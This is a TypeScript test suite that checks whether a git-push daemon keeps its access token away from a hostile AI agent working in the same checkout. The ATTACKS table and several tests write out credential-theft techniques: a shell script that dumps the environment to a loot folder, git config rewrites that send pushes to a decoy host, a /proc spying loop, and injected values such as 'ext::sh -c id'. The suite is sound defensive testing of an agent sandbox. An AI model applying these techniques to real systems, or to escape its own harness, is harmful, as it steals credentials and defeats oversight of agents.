/**
 * An agent that was talked into getting at the token, or into pushing where it must not: each row is one way to try it, with a real daemon's
 * git, a real host that wants a login, and a decoy that takes down whatever is sent to it. Named after the incidents that they come from.
 */
import assert from "node:assert/strict";
import { execFileSync, spawn } from "node:child_process";
import {
  chmodSync,
  chownSync,
  cpSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import { createServer, type Server } from "node:http";
import { join } from "node:path";
import { after, afterEach, before, describe, test } from "node:test";
import type { Checkout } from "../../src/daemon/checkout.ts";
import { runCommand } from "../../src/daemon/git-command.ts";
import { AGENT_ENV, agent, failureOf, type GitBench, git, makeGitBench, NOBODY, PATH, write } from "./git-bench.ts";
import { type GitHost, startGitHost } from "./git-host.ts";

const TOKEN = `ghs_1_${"Top-Secret.Token_".repeat(8)}`;
const LOGIN = { username: "x-access-token", password: TOKEN };
const AGENT = { uid: 65_534, gid: 65_534 };
const isRoot = process.getuid?.() === 0;

interface Ground {
  bench: GitBench;
  host: GitHost;
  /** Where the agent would have it sent. */
  decoy: string;
  /** A folder that everybody may write to, for what is stolen. */
  loot: string;
}

interface Attack {
  name: string;
  /** What the agent does before the daemon pushes, with the rights and the environment of the agent. */
  does(checkout: Checkout, ground: Ground): void;
}

const config = (checkout: Checkout, ...settings: [name: string, value: string][]): void => {
  for (const [name, value] of settings) agent(checkout, "config", "--add", name, value);
};
/** A program that writes down all that it can see. */
const thief = ({ loot, bench }: Ground, name: string): string => {
  const file = join(bench.root, name);
  const script = `#!/bin/sh\n{ echo "$0 $@"; env; cat; } >> ${loot}/${name} 2>/dev/null </dev/null\nexit 1\n`;
  writeFileSync(file, script, { mode: 0o755 });
  return file;
};

const ATTACKS: Attack[] = [
  {
    name: "HackerOne #3556799: --receive-pack and ext:: in the clone's config",
    does: (c, g) =>
      config(
        c,
        ["remote.origin.receivepack", thief(g, "rp")],
        ["remote.origin.uploadpack", thief(g, "up")],
        ["protocol.ext.allow", "always"],
        [`url.ext::${thief(g, "ext")} .insteadOf`, "http"],
      ),
  },
  {
    name: "CCA #1526: a checkout credential in .git/config, an include, or an extra header, to be found there",
    does: (c, g) => {
      writeFileSync(
        join(g.bench.root, "included"),
        `[http]\n\textraHeader = X-Stolen: 1\n[credential]\n\thelper = ${thief(g, "inc")}\n`,
      );
      config(c, ["include.path", join(g.bench.root, "included")]);
    },
  },
  {
    name: "a credential helper of the agent's own, which git would tell what worked",
    does: (c, g) =>
      config(
        c,
        ["credential.helper", `!${thief(g, "helper")}`],
        [`credential.${g.host.origin}.helper`, `!${thief(g, "helper2")}`],
      ),
  },
  { name: "a program that git asks for passwords", does: (c, g) => config(c, ["core.askPass", thief(g, "askpass")]) },
  {
    name: "another host in the place of the remote (url.insteadOf, remote.pushurl)",
    does: (c, g) =>
      config(
        c,
        [`url.${g.decoy}/.insteadOf`, `${g.host.origin}/`],
        [`url.${g.decoy}/.pushInsteadOf`, `${g.host.origin}/`],
        ["remote.origin.pushurl", `${g.decoy}/remote.git`],
        ["remote.origin.url", `${g.decoy}/remote.git`],
      ),
  },
  {
    name: "a proxy that reads along",
    does: (c, g) =>
      config(
        c,
        ["http.proxy", g.decoy],
        ["remote.origin.proxy", g.decoy],
        [`http.${g.host.origin}.proxy`, g.decoy],
        ["http.sslVerify", "false"],
      ),
  },
  {
    name: "a trace of what goes over the wire (GIT_TRACE_CURL, trace2)",
    does: (c, g) =>
      config(
        c,
        ["trace2.eventTarget", join(g.loot, "trace2")],
        ["trace2.envVars", "PATH"],
        ["http.cookieFile", join(g.loot, "cookies")],
        ["http.saveCookies", "true"],
      ),
  },
  {
    name: "hooks that run when the daemon commits and pushes",
    does(c, g) {
      for (const hook of [
        "pre-push",
        "post-commit",
        "reference-transaction",
        "pre-commit",
        "post-update",
        "post-checkout",
      ]) {
        writeFileSync(join(c.spec.dir, ".git/hooks", hook), readFileSync(thief(g, hook)), { mode: 0o755 });
      }
    },
  },
  {
    name: "hooks from another folder, a monitor of files, a pager, an editor, an ssh command",
    does: (c, g) =>
      config(
        c,
        ["core.hooksPath", g.bench.root],
        ["core.fsmonitor", thief(g, "fsmonitor")],
        ["core.pager", thief(g, "pager")],
        ["core.editor", thief(g, "editor")],
        ["core.sshCommand", thief(g, "ssh")],
        ["core.gitProxy", thief(g, "proxy")],
      ),
  },
  {
    name: "aliases for the commands that the daemon uses",
    does: (c, g) =>
      config(
        c,
        ["alias.push", `!${thief(g, "alias")}`],
        ["alias.fetch", `!${thief(g, "alias")}`],
        ["alias.ls-remote", `!${thief(g, "alias")}`],
      ),
  },
  {
    name: "filters and programs for differences, by attributes",
    does: (c, g) => {
      config(
        c,
        ["filter.x.clean", thief(g, "clean")],
        ["diff.x.textconv", thief(g, "textconv")],
        ["diff.x.command", thief(g, "diff")],
        ["merge.x.driver", thief(g, "merge")],
      );
      writeFileSync(join(c.spec.dir, ".git/info/attributes"), "*.log filter=x diff=x merge=x\n");
    },
  },
  {
    name: "more to push than the branch (push refspecs, mirror, tags)",
    does(c) {
      agent(c, "branch", "stray");
      agent(c, "tag", "v1");
      config(
        c,
        ["remote.origin.push", "+refs/heads/*:refs/heads/*"],
        ["remote.origin.mirror", "true"],
        ["push.default", "matching"],
        ["push.followTags", "true"],
      );
    },
  },
  {
    name: "a branch that is another name for the default branch",
    does(c) {
      agent(c, "update-ref", "refs/heads/kept", "HEAD");
      agent(c, "symbolic-ref", "refs/remotes/origin/threadbox/fix", "refs/remotes/origin/main");
    },
  },
  {
    name: "objects that are looked for in a folder of the daemon's",
    does(c, g) {
      mkdirSync(join(c.spec.dir, ".git/objects/info"), { recursive: true });
      writeFileSync(join(c.spec.dir, ".git/objects/info/alternates"), `${g.bench.stateDir}\n`);
    },
  },
  {
    name: "a submodule and a large-file store at the decoy",
    does(c, g) {
      write(c, ".gitmodules", `[submodule "x"]\n\tpath = x\n\turl = ${g.decoy}/x.git\n`);
      write(c, ".lfsconfig", `[lfs]\n\turl = ${g.decoy}/lfs\n`);
      config(c, ["push.recurseSubmodules", "on-demand"], ["submodule.recurse", "true"], ["lfs.url", `${g.decoy}/lfs`]);
    },
  },
  {
    name: "options and a signing program",
    does: (c, g) =>
      config(
        c,
        ["push.pushOption", "ci.skip"],
        ["push.gpgSign", "true"],
        ["commit.gpgSign", "true"],
        ["gpg.program", thief(g, "gpg")],
        ["gpg.format", "ssh"],
        ["gpg.ssh.program", thief(g, "gpgssh")],
      ),
  },
];

describe("the token, and a hostile clone", () => {
  let ground: Ground;
  let decoy: Server;
  const heard: string[] = [];

  before(async () => {
    const bench = makeGitBench();
    git(bench.bare, ["config", "http.receivepack", "true"]);
    decoy = createServer((request, response) => {
      heard.push(JSON.stringify([request.method, request.url, request.headers]));
      response.writeHead(401, { "www-authenticate": 'Basic realm="git"' }).end();
    });
    decoy.on("connect", (request, socket) => {
      heard.push(JSON.stringify(["CONNECT", request.url, request.headers]));
      socket.destroy();
    });
    await new Promise<void>((resolve) => decoy.listen(0, "127.0.0.1", resolve));
    const address = decoy.address();
    const loot = join(bench.root, "loot");
    mkdirSync(loot);
    const host = await startGitHost(bench.root, (login) => login === `${LOGIN.username}:${TOKEN}`);
    ground = { bench, host, loot, decoy: `http://127.0.0.1:${typeof address === "object" ? address?.port : 0}` };
    if (isRoot) {
      chmodSync(bench.root, 0o755);
      chmodSync(loot, 0o777);
      chmodSync(bench.stateDir, 0o711);
    }
  });
  after(async () => {
    await ground.host.close();
    decoy.closeAllConnections();
    await new Promise((resolve) => decoy.close(resolve));
    ground.bench.close();
  });

  describe("of an agent that shares the daemon's user", () => {
    let checkout: Checkout;
    let main: string;
    before(async () => {
      checkout = await prepared(ground, { owner: false });
      cpSync(join(checkout.spec.dir, ".git"), join(ground.bench.root, "kept.git"), { recursive: true });
      main = git(ground.bench.bare, ["for-each-ref"]);
    });
    afterEach(() => {
      // All but the objects, which the daemon's own repository stands on.
      for (const entry of readdirSync(checkout.spec.dir)) {
        if (entry !== ".git") rmSync(join(checkout.spec.dir, entry), { recursive: true });
      }
      const inside = join(checkout.spec.dir, ".git");
      for (const entry of [...readdirSync(inside).filter((name) => name !== "objects"), "objects/info"]) {
        rmSync(join(inside, entry), { recursive: true, force: true });
      }
      cpSync(join(ground.bench.root, "kept.git"), inside, { recursive: true });
      agent(checkout, "reset", "--quiet", "--hard");
      git(ground.bench.bare, ["update-ref", "-d", "refs/heads/threadbox/fix"]);
    });

    for (const { name, does } of ATTACKS) {
      test(name, async () => {
        const { bench, host, loot } = ground;
        does(checkout, ground);
        write(checkout, "work.log", `${name}\n`);
        const pushed = await checkout.publish("Mine").catch((error: unknown) => error);
        assert.ok(pushed && typeof pushed === "object" && "pushed" in pushed, String(pushed));
        assert.equal(bench.onRemote("threadbox/fix", "work.log"), name);
        const refs = git(bench.bare, ["for-each-ref"]).split("\n");
        assert.equal(refs.filter((line) => !line.endsWith("refs/heads/threadbox/fix")).join("\n"), main);
        assert.deepEqual(heard, []);
        assert.ok(host.logins.length > 0);
        assert.deepEqual([...withToken(loot), ...withToken(checkout.spec.dir)], []);
      });
    }
  });

  test("Microsoft TI: /proc of git, of its helper and of the daemon, read all the while by another user", {
    skip: !isRoot && "needs root",
  }, async () => {
    const { bench, host, loot } = ground;
    const workspace = join(bench.root, "theirs");
    mkdirSync(workspace);
    chownSync(workspace, AGENT.uid, AGENT.gid);
    const seen = join(loot, "proc");
    const spy = `while sleep 0.1; do for p in /proc/[0-9]*; do cat $p/cmdline $p/environ; cat $p/mem; ls -l $p/fd; done; find ${bench.stateDir} /tmp -name s -type s; cat ${bench.stateDir}/c-*/helper.mjs ${bench.stateDir}/c-*/s; done >> ${seen} 2>&1`;
    const child = spawn("sh", ["-c", spy], { ...AGENT, env: AGENT_ENV, stdio: "ignore", detached: true });
    const checkout = await prepared(ground, { owner: true, dir: join(workspace, "app") });
    execFileSync("sh", ["-c", "echo two > a.txt"], { cwd: checkout.spec.dir, ...AGENT });
    await checkout.publish("Mine");
    process.kill(-(child.pid ?? 0), "SIGKILL");
    assert.ok(existsSync(seen));
    assert.deepEqual(withToken(loot), []);
    assert.ok(host.logins.includes(`${LOGIN.username}:${TOKEN}`));
    git(bench.bare, ["update-ref", "-d", "refs/heads/threadbox/fix"]);
  });

  test("a process left behind that talks to the helper's socket: it is another user's, and gone with git", {
    skip: !isRoot && "needs root",
  }, async () => {
    const { bench } = ground;
    const workspace = join(bench.root, "left");
    mkdirSync(workspace);
    chownSync(workspace, AGENT.uid, AGENT.gid);
    let asked = "";
    const find = () => {
      // In the very moment in which git asks: the socket is there, and the agent looks for it.
      const look = `ls -la ${bench.stateDir}/ ${bench.stateDir}/c-* 2>&1; for s in ${bench.stateDir}/c-*; do cat $s/helper.mjs 2>&1; done`;
      asked = execFileSync("sh", ["-c", `${look}; true`], { ...AGENT, env: AGENT_ENV, encoding: "utf8" });
      return LOGIN;
    };
    const source = `${ground.host.origin}/remote.git`;
    const checkout = bench.checkout({ source, dir: join(workspace, "app") }, { owner: AGENT, credentials: { find } });
    await checkout.prepare(NOBODY);
    assert.match(asked, /Permission denied|cannot open/);
    assert.doesNotMatch(asked, /createConnection|connect\(/);
    assert.deepEqual(
      readdirSync(bench.stateDir).filter((name) => name.startsWith("c-")),
      [],
    );
  });

  test("GIT_ASKPASS and its kind in the agent's own shell find nobody to ask", async () => {
    const checkout = await prepared(ground, { owner: false });
    const env = {
      ...AGENT_ENV,
      GIT_ASKPASS: thief(ground, "ask"),
      GIT_TRACE_CURL: join(ground.loot, "curl"),
      GIT_TERMINAL_PROMPT: "0",
    };
    const push = ["push", "origin", "HEAD:refs/heads/other"];
    assert.notEqual((await runCommand("git", push, { cwd: checkout.spec.dir, env, timeoutMs: 20_000 })).code, 0);
    assert.deepEqual(withToken(ground.loot), []);
    assert.equal(git(ground.bench.bare, ["for-each-ref", "refs/heads/other"]), "");
  });

  test("argument injection (HackerOne #3556799): a branch that is an option, a refspec or a way out is none", async () => {
    for (const branch of ["--receive-pack=sh", "-f", "a:refs/heads/main", "../../x", "a b", "main^{}", "@{-1}", "a..b"])
      assert.throws(() => ground.bench.checkout({ branch }), { code: "git.clone-failed" }, branch);
    for (const source of ["ext::sh -c id", "--upload-pack=sh", "fd::17", "-oProxyCommand=sh", "transport::x"])
      assert.throws(() => ground.bench.checkout({ source }), { code: "git.clone-failed" }, source);
    assert.equal(
      (
        await failureOf(
          ground.bench
            .checkout(
              { source: `${ground.decoy}/remote.git` },
              { credentials: { find: (o) => (o === ground.host.origin ? LOGIN : null) } },
            )
            .prepare(NOBODY),
        )
      ).code,
      "git.unauthorized",
    );
    assert.ok(heard.every((request) => !request.includes("authorization")));
  });
});

async function prepared({ bench, host }: Ground, { owner, dir }: { owner: boolean; dir?: string }): Promise<Checkout> {
  const options = {
    credentials: { find: () => LOGIN },
    env: { PATH, HOME: bench.root },
    ...(owner ? { owner: AGENT } : {}),
  };
  const checkout = bench.checkout({ source: `${host.origin}/remote.git`, ...(dir ? { dir } : {}) }, options);
  await checkout.prepare(NOBODY);
  await checkout.begin([]);
  return checkout;
}

/** Files below it in which the token stands, in any spelling that a header or a URL has. */
function withToken(folder: string): string[] {
  const spellings = [
    TOKEN,
    Buffer.from(`${LOGIN.username}:${TOKEN}`).toString("base64"),
    Buffer.from(TOKEN).toString("base64").slice(0, 60),
  ];
  const files = readdirSync(folder, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile());
  return files
    .map((file) => join(file.parentPath, file.name))
    .filter((file) => {
      const bytes = readFileSync(file);
      return spellings.some((spelling) => bytes.includes(spelling));
    });
}
